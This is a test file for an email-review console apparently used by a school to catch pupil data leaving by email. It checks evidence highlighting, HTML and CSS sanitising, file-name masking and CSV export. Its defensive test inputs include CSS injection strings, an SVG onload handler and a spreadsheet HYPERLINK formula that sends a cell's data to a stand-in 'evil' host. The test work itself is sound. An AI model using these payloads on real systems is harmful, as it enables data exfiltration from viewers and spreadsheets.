// The console's small pure parts: evidence highlighting by the examiner's spans, the viewer's sanitiser and
// CSS filter, file-name masking for people without access to the message, CSV that spreadsheets
// cannot run, and dates in the school's time zone.
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { loadPolicy } from '../src/decide/index.ts';
import { createExaminer } from '../src/examine.ts';
import { loadRoster } from '../src/roster/index.ts';
import { escapeHtml, html } from '../src/review/console/html.ts';
import { highlight, matchesEvidence, quotedInReason } from '../src/review/console/pages/incident.ts';
import { csvCells, registerCsv } from '../src/review/register.ts';
import { maskFindings } from '../src/review/console/privacy.ts';
import { localDayStart } from '../src/review/console/data.ts';
import { sanitiseForViewer, unsafeCss } from '../src/review/console/viewer.ts';
import type { Incident } from '../src/store/incidents.ts';

const ROOT = path.resolve(import.meta.dirname, '..');

describe('evidence highlighting', () => {
  it('marks the span when the text there looks like the redacted evidence (spans index the string)', () => {
    const text = 'Trip for Zoë Ångström tomorrow';
    const start = text.indexOf('Zoë');
    const end = start + 'Zoë Ångström'.length;
    const out = highlight(text, [{ detector: 'pupil-name', where: 'subject', evidence: 'Z** Å*******', reason: 'name', span: [start, end] }]).value;
    expect(out).toBe('Trip for <mark title="name">Zoë Ångström</mark> tomorrow');
  });

  it('marks what the examiner found after accented letters and curly apostrophes, in the subject and the body', async () => {
    // The spans the console reads are the examiner's own: a name after "Zoë" or "We’re" (2 and 3
    // bytes in UTF-8, one unit in the string) was once looked for a few bytes too far on and
    // silently left unmarked.
    const { roster } = await loadRoster(path.join(ROOT, 'test/corpus/roster.csv'));
    const policy = loadPolicy({ source: 'test', school: { domains: ['school.example.org'] }, policy: {} });
    const examiner = await createExaminer({ policy, roster });
    try {
      const subject = 'Café trip – Zoë Smith';
      const body = 'We’re pleased to say Zoë Smith has asthma and an EHCP, UPN E919204121100.';
      const raw = Buffer.from(
        `From: a@school.example.org\r\nTo: b@gmail.com\r\nSubject: =?utf-8?B?${Buffer.from(subject).toString('base64')}?=\r\n` +
          `Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n${body}\r\n`,
      );
      const { verdict, inspection } = await examiner.examine(raw, { mailFrom: 'a@school.example.org', mailFromParams: {}, rcptTo: [{ address: 'b@gmail.com' }] });
      expect(inspection.subject).toBe(subject);
      const inSubject = highlight(subject, verdict.findings.filter((f) => f.where === 'subject')).value;
      expect(inSubject).toBe('Café trip – <mark title="A pupil&#39;s name (Z** S****) is in the subject line.">Zoë Smith</mark>');
      const inBody = highlight(body, verdict.findings.filter((f) => f.where === 'body')).value;
      expect(inBody).toContain('>E919204121100</mark>');
      // The conditions a finding is about are marked where they stand (its evidence is whom they are about).
      expect(inBody).toContain('>asthma</mark>');
      expect(quotedInReason('EHCP', 'The email gives a condition (asthma, EHCP) about Z** S****')).toBe(true);
      expect(quotedInReason('has', 'The email gives a condition (asthma, EHCP) about Z** S****')).toBe(false);
      expect(quotedInReason('child\nprotection  plan', 'The email gives safeguarding (child protection plan) about Z** S****')).toBe(true);
      expect(quotedInReason('asthma', 'A pupil name (Z** S****) in asthma')).toBe(false);
    } finally {
      await examiner.close();
    }
  });

  it('ignores a span that does not match (the text changed, or offsets from another text)', () => {
    const text = 'Hello Amelia Thornbury';
    expect(highlight(text, [{ detector: 'x', where: 'body', evidence: 'A***** T********', reason: 'r', span: [0, 5] }]).value).toBe(text);
    expect(highlight(text, [{ detector: 'x', where: 'body', evidence: 'A***** T********', reason: 'r', span: [6, 999] }]).value).toBe(text);
    expect(matchesEvidence('1234 5678', '1*** ****')).toBe(true);
    expect(matchesEvidence('2234 5678', '1*** ****')).toBe(false);
  });

  it('escapes the message text around and inside the mark', () => {
    const text = '<b>A&B</b>';
    expect(highlight(text, [{ detector: 'x', where: 'body', evidence: 'A*B', reason: '"r"', span: [3, 6] }]).value).toBe('&lt;b&gt;<mark title="&quot;r&quot;">A&amp;B</mark>&lt;/b&gt;');
    expect(escapeHtml('\'"<>&\u0000')).toBe('&#39;&quot;&lt;&gt;&amp;\ufffd');
    expect(html`<p>${'<script>'}</p>`.value).toBe('<p>&lt;script&gt;</p>');
  });
});

describe('the HTML viewer', () => {
  const picture = { index: 0, filename: 'logo.png', contentType: 'image/png', size: 3, contentId: 'logo@school', inline: true, content: Buffer.from([137, 80, 78]) };

  it('shows pictures carried in the message only when asked, and never pictures on the internet', () => {
    const body = '<p>Hi<img src="cid:logo@school" alt="crest"><img src="https://tracker.example/p.gif"></p>';
    const hidden = sanitiseForViewer(body, { showPictures: false, attachments: [picture] });
    expect(hidden.html).not.toContain('<img');
    expect(hidden.html).toContain('[picture: crest]');
    const shown = sanitiseForViewer(body, { showPictures: true, attachments: [picture] });
    expect(shown.html).toContain('<img alt="crest" src="data:image/png;base64,iVBO" />');
    expect(shown.html).toContain('[picture from the internet, not loaded]');
    expect(shown.html).not.toContain('tracker.example');
    expect(shown.pictures).toBe(1);
    expect(shown.remotePictures).toBe(1);
  });

  it('never turns an SVG or other active type into a picture', () => {
    const svg = { ...picture, contentType: 'image/svg+xml', content: Buffer.from('<svg onload="x()"/>') };
    const out = sanitiseForViewer('<img src="cid:logo@school">', { showPictures: true, attachments: [svg] });
    expect(out.html).not.toContain('<img');
  });

  it('drops styles that could fetch or hide a fetch, and keeps ordinary ones', () => {
    for (const css of ['background:url(x)', 'background: URL( x )', '@import "x"', 'b\\61ckground:u\\72l(x)', 'width:expression(alert(1))', 'background-image:image-set("x" 1x)', 'behavior:url(x.htc)', 'color:red;&#117;rl(x)']) {
      expect(unsafeCss(css), css).toBe(true);
    }
    expect(unsafeCss('color: #1d4f91; font-weight: bold; margin: 0 0 1em')).toBe(false);
    const out = sanitiseForViewer('<p style="color:red">a</p><p style="background:url(http://x/)">b</p><style>.a{color:red}</style><style>.b{background:url(http://x/)}</style>', { showPictures: false, attachments: [] });
    expect(out.html).toContain('<p style="color:red">a</p><p>b</p><style>.a{color:red}</style>');
    expect(out.html).not.toContain('http://x/');
  });

  it('makes links inert and keeps no active element', () => {
    const out = sanitiseForViewer('<a href="https://example.com/x" onclick="y()">go</a><form action="/f"><input></form><button formaction="/z">b</button><math><mi>x</mi></math>', { showPictures: false, attachments: [] });
    expect(out.html).toContain('<a class="hm-link">go</a>');
    for (const bad of ['href', 'onclick', '<form', '<input', '<button', 'formaction', '<math']) expect(out.html).not.toContain(bad);
    expect(out.links).toBe(1);
  });
});

describe('what people without access to the message see', () => {
  it('masks attachment file names in the place, the reason and the evidence', () => {
    const [f] = maskFindings([{ detector: 'd', where: 'attachment:Amelia Thornbury.zip/medical notes.docx', evidence: 'in medical notes.docx', reason: 'The attachment Amelia Thornbury.zip holds medical notes.docx' }]);
    expect(JSON.stringify(f)).not.toContain('Amelia');
    expect(JSON.stringify(f)).not.toContain('medical notes');
    expect(f.where).toBe('attachment:A***** T********.zip/m****** n****.docx');
    // The parts of an attached email are not file names: "body" stays a word everywhere else.
    const [g, h] = maskFindings([
      { detector: 'd', where: 'attachment:Amelia Thornbury.eml/body', evidence: 'e', reason: 'In the body of the attached email' },
      { detector: 'f', where: 'envelope', evidence: 'e', reason: 'School email forwarded (the body quotes a forwarded message)' },
    ]);
    expect(g.where).toBe('attachment:A***** T********.eml/body');
    expect(g.reason).toBe('In the body of the attached email');
    expect(h.reason).toBe('School email forwarded (the body quotes a forwarded message)');
    // Only a last part after an attached email is one of its parts: a file the sender named like one is masked.
    const [k] = maskFindings([{ detector: 'd', where: 'attachment:body: Amelia Thornbury EHCP.pdf', evidence: 'e', reason: 'The attachment body: Amelia Thornbury EHCP.pdf' }]);
    expect(JSON.stringify(k)).not.toContain('Amelia');
  });

  it('writes CSV that a spreadsheet will not run as a formula', () => {
    const inc = {
      reference: 'HM-2026-000001', messageId: 'm', detectedAt: new Date('2026-07-01T09:30:00Z'), action: 'quarantine', kind: 'held', status: 'open',
      sender: '=HYPERLINK("http://evil/"&A1)@school.example', recipients: ['a@x.example', 'b@x.example'], rules: ['identifier-in-message'], severity: 4,
      findings: [{ detector: 'd', where: 'body', evidence: '+44 ****', reason: 'r' }], potentialBreach: false, breachMarkedAt: null, icoDeadline: null, escalatedAt: null,
      heldBy: 'h', updatedAt: new Date(),
    } as Incident;
    const schoolName = () => 'Oakfield Primary';
    // One privacy default: the sender and recipients as their domains.
    const row = registerCsv([{ incident: inc, decision: null }], { timeZone: 'Europe/London', schoolName }).split('\r\n')[1];
    expect(row).toContain('"2026-07-01 10:30"'); // British Summer Time
    expect(row).toContain('"x.example"');
    expect(row).toContain('"2"');
    expect(row).not.toContain('a@x.example');
    // With the addresses, a sender that looks like a formula is neutralised.
    const full = registerCsv([{ incident: inc, decision: null }], { timeZone: 'Europe/London', schoolName, withAddresses: true }).split('\r\n')[1];
    expect(full).toContain(`"'=HYPERLINK(""http://evil/""&A1)@school.example"`);
    expect(csvCells(full)[12]).toBe('a@x.example; b@x.example');
  });

  it('starts a school day at local midnight, summer and winter', () => {
    expect(localDayStart('2026-07-01', 'Europe/London')?.toISOString()).toBe('2026-06-30T23:00:00.000Z');
    expect(localDayStart('2026-12-01', 'Europe/London')?.toISOString()).toBe('2026-12-01T00:00:00.000Z');
    expect(localDayStart('not a day', 'Europe/London')).toBeNull();
  });
});
